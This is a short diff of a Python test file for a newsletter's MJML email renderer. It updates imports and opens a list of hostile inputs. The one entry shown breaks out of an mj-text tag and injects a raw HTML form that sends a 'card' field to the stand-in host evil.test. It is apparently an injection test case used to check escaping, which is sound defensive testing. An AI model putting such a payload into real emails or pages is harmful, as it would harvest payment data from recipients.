@@ -10,10 +10,11 @@ import pytest
 
 from newsletter.comparisons.model import Pricing, Review, Tool, Verdict
 from newsletter.errors import InputError
-from newsletter.issues import IssueContent, Section
+from newsletter.issues import IssueContent
 from newsletter.rendering.lint import lint_mail
 from newsletter.rendering.markup import read_html
 from newsletter.rendering.mjml import RenderedMail, render_issue, render_notice, split_mail
+from newsletter.selection import Section
 
 HOSTILE = [
     "</mj-text><mj-raw><form action='https://evil.test'><input name='card'/></form></mj-raw><mj-text>",
